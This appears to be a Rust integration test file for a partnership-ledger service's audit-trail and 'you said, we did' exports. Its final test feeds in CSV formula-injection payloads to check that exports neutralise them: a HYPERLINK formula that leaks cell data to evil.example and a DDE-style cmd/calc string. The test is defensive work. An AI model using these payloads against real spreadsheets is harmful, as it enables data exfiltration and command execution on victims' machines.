//! Exports: the audit trail of an organisation for a period (CSV and JSON Lines) holds every
//! event of the period and no other, exactly as stored; "you said, we did" lists each input
//! item and what came of it.

use std::collections::BTreeSet;
use std::process::Command;
use std::time::Duration;

use chrono::Utc;
use partnership_ledger::auth::Role;
use partnership_ledger::store::{chain_hash, HashedFields};
use serde_json::{json, Value};

use crate::helpers::{plan_activity, record_item, spawn_app, Backend, TestApp};
use crate::on_both;

const TRAIL: &str = "query($org: String!, $from: DateTime!, $to: DateTime!, $format: TrailFormat!) {
    auditTrail(organisation: $org, recordedFrom: $from, recordedTo: $to, format: $format) { filename contentType content rows } }";
const YOU_SAID: &str = "query($org: String!, $activity: ID, $format: YouSaidFormat!) {
    youSaidWeDid(organisation: $org, activityId: $activity, format: $format) { filename contentType content rows } }";

/// (type, id, sequence) of every event of these streams, read from the database directly.
async fn events_of(app: &TestApp, ids: &[String], after: i64) -> BTreeSet<(String, String, i64)> {
    const Q: &str = "SELECT aggregate_type, aggregate_id, sequence, position FROM events";
    let rows: Vec<(String, String, i64, i64)> = match app.db() {
        partnership_ledger::store::Db::Postgres(pool) => sqlx::query_as(Q).fetch_all(pool).await,
        partnership_ledger::store::Db::Sqlite(pool) => sqlx::query_as(Q).fetch_all(pool).await,
    }
    .expect("read events");
    rows.into_iter()
        .filter(|(_, id, _, position)| ids.contains(id) && *position > after)
        .map(|(t, id, s, _)| (t, id, s))
        .collect()
}

async fn last_position(app: &TestApp) -> i64 {
    const Q: &str = "SELECT COALESCE(MAX(position), 0) FROM events";
    match app.db() {
        partnership_ledger::store::Db::Postgres(pool) => {
            sqlx::query_scalar(Q).fetch_one(pool).await
        }
        partnership_ledger::store::Db::Sqlite(pool) => sqlx::query_scalar(Q).fetch_one(pool).await,
    }
    .expect("max position")
}

fn key(event: &Value) -> (String, String, i64) {
    (
        event["aggregate_type"].as_str().expect("type").to_owned(),
        event["aggregate_id"].as_str().expect("id").to_owned(),
        event["sequence"].as_i64().expect("sequence"),
    )
}

/// The hash recomputed from the exported columns matches: the export is the record as stored.
fn verifies(event: &Value) -> bool {
    let text = |k: &str| event[k].as_str().expect(k).to_owned();
    let recorded = chrono::DateTime::parse_from_rfc3339(&text("recorded_at"))
        .expect("recorded_at")
        .to_utc();
    chain_hash(&HashedFields {
        prev_hash: &text("prev_hash"),
        aggregate_type: &text("aggregate_type"),
        aggregate_id: &text("aggregate_id"),
        sequence: event["sequence"].as_i64().expect("sequence"),
        event_type: &text("event_type"),
        event_version: &text("event_version"),
        recorded_at: &partnership_ledger::store::format_recorded_at(&recorded),
        metadata: &text("metadata"),
        payload: &text("payload"),
    }) == text("hash")
}

fn parse_csv(content: &str) -> Vec<Value> {
    let mut reader = csv::Reader::from_reader(content.as_bytes());
    let headers = reader.headers().expect("header").clone();
    reader
        .records()
        .map(|r| {
            let r = r.expect("csv row");
            let mut row = serde_json::Map::new();
            for (h, v) in headers.iter().zip(r.iter()) {
                let value = match h {
                    "position" | "transaction" | "sequence" => {
                        json!(v.parse::<i64>().expect("number"))
                    }
                    _ => json!(v),
                };
                row.insert(h.to_owned(), value);
            }
            Value::Object(row)
        })
        .collect()
}

/// Two organisations' records, QMJ's in two batches either side of a moment.
struct Setup {
    first: Vec<String>,
    second: Vec<String>,
    boundary: String,
    position_at_boundary: i64,
    activity: String,
    items: Vec<String>,
}

async fn setup(app: &TestApp) -> Setup {
    app.register("QMJ", "North Central Trust").await;
    app.register("RAL", "Royal Free").await;
    let officer = app.token(Role::EngagementOfficer, &["QMJ"]);
    let theirs = app.token(Role::EngagementOfficer, &["RAL"]);
    let activity = plan_activity(app, &officer, "QMJ", "2026-01-10").await;
    let item = record_item(
        app,
        &officer,
        &activity,
        "Letters in plain English",
        "2026-01-10",
    )
    .await;
    let other = plan_activity(app, &theirs, "RAL", "2026-01-10").await;
    record_item(app, &theirs, &other, "Parking", "2026-01-10").await;
    tokio::time::sleep(Duration::from_millis(20)).await;
    let boundary = Utc::now().to_rfc3339();
    let position_at_boundary = last_position(app).await;
    tokio::time::sleep(Duration::from_millis(20)).await;
    app.ok(&officer, "mutation($i: DecideInputItemInput!) { decideInputItem(input: $i) { inputItem { id } } }",
        json!({ "i": { "inputItemId": item, "outcome": "DECLINED", "reason": "No budget", "decidedOn": "2026-01-20" } })).await;
    let second_item = record_item(
        app,
        &officer,
        &activity,
        "Evening clinics, please",
        "2026-01-10",
    )
    .await;
    app.ok(&officer, "mutation($i: RecordInputFeedbackInput!) { recordInputFeedback(input: $i) { inputItem { id } } }",
        json!({ "i": { "inputItemId": item, "givenOn": "2026-01-25", "channel": "LETTER", "summary": "Why not, for now" } })).await;
    Setup {
        first: vec!["QMJ".into(), activity.clone(), item.clone()],
        second: vec![item.clone(), second_item.clone()],
        boundary,
        position_at_boundary,
        activity,
        items: vec![item, second_item],
    }
}

async fn the_audit_trail_holds_the_period_and_no_more(backend: Backend) {
    let app = spawn_app(backend).await;
    let s = setup(&app).await;
    let auditor = app.token(Role::Auditor, &["QMJ"]);
    let later = (Utc::now() + chrono::Duration::minutes(5)).to_rfc3339();
    let mut all_ids = s.first.clone();
    all_ids.extend(s.second.clone());
    let everything = events_of(&app, &all_ids, 0).await;
    // QMJ registered, the activity planned, item 1 recorded, decided and fed back, item 2 recorded.
    assert_eq!(everything.len(), 6, "{everything:?}");

    // The whole history, as JSON Lines and as CSV: the same events, each verifiable.
    for format in ["JSON_LINES", "CSV"] {
        let file = app
            .ok(&auditor, TRAIL, json!({ "org": "QMJ", "from": "2020-01-01T00:00:00Z", "to": later, "format": format }))
            .await["auditTrail"]
            .clone();
        let content = file["content"].as_str().expect("content");
        let events: Vec<Value> = if format == "CSV" {
            assert_eq!(file["contentType"], "text/csv");
            parse_csv(content)
        } else {
            assert_eq!(file["contentType"], "application/jsonl");
            content
                .lines()
                .map(|l| serde_json::from_str(l).expect("a JSON line"))
                .collect()
        };
        assert_eq!(file["rows"], json!(events.len()));
        let keys: BTreeSet<_> = events.iter().map(key).collect();
        assert_eq!(
            keys, everything,
            "{format}: every event of QMJ's records, none of RAL's"
        );
        assert!(
            events.iter().all(verifies),
            "{format}: every line verifies against its hash"
        );
        assert!(events
            .iter()
            .all(|e| e["actor_role"] == "ENGAGEMENT_OFFICER" || e["actor_role"] == "ADMIN"));
        let positions: Vec<i64> = events
            .iter()
            .map(|e| e["position"].as_i64().expect("position"))
            .collect();
        assert!(positions.windows(2).all(|w| w[0] < w[1]), "in commit order");
    }

    // From the boundary on: only the second batch.
    let file = app
        .ok(
            &auditor,
            TRAIL,
            json!({ "org": "QMJ", "from": s.boundary, "to": later, "format": "JSON_LINES" }),
        )
        .await["auditTrail"]
        .clone();
    let keys: BTreeSet<_> = file["content"]
        .as_str()
        .expect("content")
        .lines()
        .map(|l| key(&serde_json::from_str(l).expect("line")))
        .collect();
    assert_eq!(
        keys,
        events_of(&app, &s.second, s.position_at_boundary).await
    );
    assert_eq!(keys.len(), 3);

    // Refusals.
    let (code, message) = app
        .err(
            &auditor,
            TRAIL,
            json!({ "org": "QMJ", "from": later, "to": s.boundary, "format": "CSV" }),
        )
        .await;
    assert_eq!(
        (code.as_str(), message.as_str()),
        ("VALIDATION", "recordedFrom: must be before recordedTo")
    );
    let officer = app.token(Role::EngagementOfficer, &["QMJ"]);
    let (code, _) = app
        .err(
            &officer,
            TRAIL,
            json!({ "org": "QMJ", "from": s.boundary, "to": later, "format": "CSV" }),
        )
        .await;
    assert_eq!(code, "FORBIDDEN");
    let outsider = app.token(Role::Auditor, &["RAL"]);
    let (code, _) = app
        .err(
            &outsider,
            TRAIL,
            json!({ "org": "QMJ", "from": s.boundary, "to": later, "format": "CSV" }),
        )
        .await;
    assert_eq!(code, "NOT_FOUND");

    // The same from the command line, for today, as CSV.
    let today = Utc::now().date_naive().to_string();
    let mut command = Command::new(env!("CARGO_BIN_EXE_partnership-ledger"));
    command
        .args([
            "export", "audit", "--org", "QMJ", "--from", &today, "--to", &today, "--format", "csv",
        ])
        .env("PL_DATA_DIR", &app.settings.data_dir)
        .env("RUST_LOG", "warn");
    crate::helpers::storage_env(&mut command, &app.settings);
    let output = command.output().expect("run export");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let events = parse_csv(&String::from_utf8(output.stdout).expect("utf-8"));
    assert_eq!(events.iter().map(key).collect::<BTreeSet<_>>(), everything);
}

async fn you_said_we_did_lists_each_item(backend: Backend) {
    let app = spawn_app(backend).await;
    let s = setup(&app).await;
    let officer = app.token(Role::EngagementOfficer, &["QMJ"]);
    let file = app
        .ok(&officer, YOU_SAID, json!({ "org": "QMJ", "format": "CSV" }))
        .await["youSaidWeDid"]
        .clone();
    let rows = parse_csv(file["content"].as_str().expect("content"));
    assert_eq!(rows.len(), 2, "QMJ's two items, not RAL's");
    let first = rows
        .iter()
        .find(|r| r["input_item_id"] == s.items[0].as_str())
        .expect("row");
    assert_eq!(first["you_said"], "Letters in plain English");
    assert_eq!(first["decision"], "declined");
    assert_eq!(first["reason"], "No budget");
    assert_eq!(first["told_on"], "2026-01-25");
    let second = rows
        .iter()
        .find(|r| r["input_item_id"] == s.items[1].as_str())
        .expect("row");
    assert_eq!(
        (second["decision"].as_str(), second["told_on"].as_str()),
        (Some(""), Some(""))
    );

    let page = app
        .ok(
            &officer,
            YOU_SAID,
            json!({ "org": "QMJ", "activity": s.activity, "format": "HTML" }),
        )
        .await["youSaidWeDid"]
        .clone();
    let html = page["content"].as_str().expect("html");
    assert_eq!(page["contentType"], "text/html; charset=utf-8");
    assert!(
        html.contains("<h1>You said, we did: Outpatient letters (QMJ)</h1>"),
        "{html}"
    );
    assert!(html.contains("Letters in plain English") && html.contains("declined: No budget"));
    assert!(!html.contains("Parking"));
    assert!(html.contains("@media print"));

    // The whole organisation's page is headed with its name, as people know it.
    let page = app
        .ok(
            &officer,
            YOU_SAID,
            json!({ "org": "QMJ", "format": "HTML" }),
        )
        .await["youSaidWeDid"]
        .clone();
    let html = page["content"].as_str().expect("html");
    assert!(
        html.contains("<h1>You said, we did: North Central Trust</h1>"),
        "{html}"
    );
}

/// Whether a spreadsheet would read `cell` as a formula (OWASP's first characters).
fn formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell's value as stored, by the rule the README gives a verifier: drop one leading `'`.
fn unquote(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Every cell of a CSV file, header included.
fn cells(content: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(content.as_bytes());
    reader
        .records()
        .flat_map(|r| {
            r.expect("csv row")
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Text people typed that a spreadsheet would run comes out of every CSV export with a `'` in
/// front; the audit trail still verifies line by line once a reader drops that `'`.
async fn csv_exports_carry_no_formulas(backend: Backend) {
    let app = spawn_app(backend).await;
    app.register("QMJ", "North Central Trust").await;
    // The actor's subject comes from the identity provider: it reaches the audit trail's cells.
    let officer = app
        .tokens
        .mint(
            "@SUM(1+1)*cmd",
            Role::EngagementOfficer,
            &["QMJ".to_owned()],
            3600,
        )
        .expect("token");
    let activity = plan_activity(&app, &officer, "QMJ", "2026-01-10").await;
    let link = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";
    let sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    let hyperlink = record_item(&app, &officer, &activity, link, "2026-01-10").await;
    record_item(&app, &officer, &activity, sum, "2026-01-10").await;
    app.ok(&officer, "mutation($i: DecideInputItemInput!) { decideInputItem(input: $i) { inputItem { id } } }",
        json!({ "i": { "inputItemId": hyperlink, "outcome": "DECLINED", "reason": "-1+2 budget", "decidedOn": "2026-01-20" } })).await;

    let you_said = app
        .ok(&officer, YOU_SAID, json!({ "org": "QMJ", "format": "CSV" }))
        .await["youSaidWeDid"]["content"]
        .as_str()
        .expect("content")
        .to_owned();
    let written = cells(&you_said);
    for typed in [link, sum, "-1+2 budget"] {
        assert!(
            written.contains(&format!("'{typed}")),
            "{typed} should be written with a quote in front: {you_said}"
        );
    }
    assert!(!written.iter().any(|c| formula(c)), "{you_said}");
    let rows = parse_csv(&you_said);
    let said: BTreeSet<&str> = rows
        .iter()
        .map(|r| unquote(r["you_said"].as_str().expect("cell")))
        .collect();
    assert_eq!(
        said,
        BTreeSet::from([link, sum]),
        "dropping the quote gives the text back"
    );

    let auditor = app.token(Role::Auditor, &["QMJ"]);
    let later = (Utc::now() + chrono::Duration::minutes(5)).to_rfc3339();
    let trail = app
        .ok(
            &auditor,
            TRAIL,
            json!({ "org": "QMJ", "from": "2026-01-01T00:00:00Z", "to": later, "format": "CSV" }),
        )
        .await["auditTrail"]["content"]
        .as_str()
        .expect("content")
        .to_owned();
    let written = cells(&trail);
    assert!(!written.iter().any(|c| formula(c)), "{trail}");
    let events: Vec<Value> = parse_csv(&trail)
        .into_iter()
        .map(|mut e| {
            for (_, v) in e.as_object_mut().expect("row").iter_mut() {
                if let Some(text) = v.as_str() {
                    *v = json!(unquote(text));
                }
            }
            e
        })
        .collect();
    let by_officer: Vec<&Value> = events
        .iter()
        .filter(|e| e["actor_subject"] == "@SUM(1+1)*cmd")
        .collect();
    assert_eq!(
        by_officer.len(),
        4,
        "planned, two items, one decision: {trail}"
    );
    assert!(
        events.iter().all(verifies),
        "every line verifies once the quote is dropped"
    );
}

on_both!(
    the_audit_trail_holds_the_period_and_no_more,
    you_said_we_did_lists_each_item,
    csv_exports_carry_no_formulas
);
